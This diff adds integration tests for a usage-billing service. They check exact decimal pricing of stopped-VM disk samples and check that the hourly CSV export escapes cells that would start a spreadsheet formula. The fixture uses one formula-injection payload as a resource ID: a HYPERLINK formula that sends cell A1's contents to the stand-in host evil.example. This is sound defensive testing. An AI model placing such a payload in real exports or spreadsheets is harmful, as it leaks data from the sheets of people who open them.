@@ -1,0 +1,74 @@
+"""Amounts are exact until shown, and CSV cells never run as formulas, on the real engine."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import clickhouse_connect
+import pytest
+
+from api.dashboards import CostGroup, CostWindow, Dashboards
+from api.usage_queries import Granularity, GroupBy, UsageQueries, UsageWindow
+from billing.adapters.catalog_file import load_catalog
+from billing.scope import EVERYTHING
+from schemas.clickhouse import migrate
+from sinks.clickhouse import ClientPool, UsageStore
+from tests.factories import vm_sample
+from tests.integration.test_identities import DB, frame
+
+pytestmark = pytest.mark.integration
+
+HOUR = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
+CATALOG = load_catalog(Path("billing/catalog.yaml"))
+
+
+def stopped_vm_with_a_20_gib_ssd(resource_id: str, at: datetime) -> dict[str, Any]:
+    """Stopped: only its disk is billed (no vCPU, RAM or network)."""
+    disks = [{"device": "vda", "tier": "ssd", "size_gib": 20}]
+    return vm_sample(resource_id, "cust-00001", at, power_state="stopped", disks=disks, net_tx_bytes=0)
+
+
+@pytest.fixture
+def queries(tmp_path: Path) -> Iterator[tuple[UsageQueries, Dashboards]]:
+    client = clickhouse_connect.get_client(dsn=f"chdb://{tmp_path / 'exact'}")
+    migrate(client, DB)
+    store = UsageStore(client, DB)
+    samples = [stopped_vm_with_a_20_gib_ssd("vm-a", HOUR + timedelta(minutes=5 * n)) for n in range(1, 13)]
+    samples.append(stopped_vm_with_a_20_gib_ssd('=HYPERLINK("https://evil.example/?x="&A1,"open")', HOUR))
+    for sample in samples:  # one flush each, as a live fleet's samples come
+        store.write(frame([sample]), HOUR + timedelta(hours=1))
+    pool = ClientPool(lambda: client, 1)
+    yield UsageQueries(pool, DB), Dashboards(pool, DB)
+    client.close()
+
+
+def test_an_hour_of_samples_is_priced_exactly(queries):
+    """Twelve 5-minute samples of a 20 GiB ssd disk: 20 GiB x 3600 s = 20 GiB-h at 0.00020 =
+    0.004 exactly. Each sample alone is 1.666… GiB-h, 0.000333… rated and stored rounded at 12
+    places (0.000333333333): summing those made 0.003999999996."""
+    usage, dashboards = queries
+    window = UsageWindow("cust-00001", HOUR, HOUR + timedelta(hours=1))
+    rows = usage.usage(EVERYTHING, window, Granularity.HOUR, GroupBy.RESOURCE).to_pylist()
+    vm_a = [row for row in rows if row["resource_id"] == "vm-a"]
+    assert [(row["quantity"], row["amount"]) for row in vm_a] == [(Decimal("20"), Decimal("0.004"))]
+    points, _ = dashboards.costs(
+        EVERYTHING, CATALOG, CostWindow(HOUR, HOUR + timedelta(hours=1), Granularity.HOUR), CostGroup.CUSTOMER, top=None
+    )
+    # vm-a's 0.004, plus the other VM's one sample ending at 10:00 - in the hour before
+    assert [point.amount for point in points] == [Decimal("0.004")]
+
+
+def test_text_cells_of_the_hourly_csv_never_start_a_formula(queries):
+    usage, _ = queries
+    window = UsageWindow("cust-00001", HOUR - timedelta(hours=1), HOUR + timedelta(hours=1))
+    text = b"".join(usage.hourly_csv(EVERYTHING, window)).decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"open")' in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    assert "0.004000000000" in cells, "figures stay numbers"
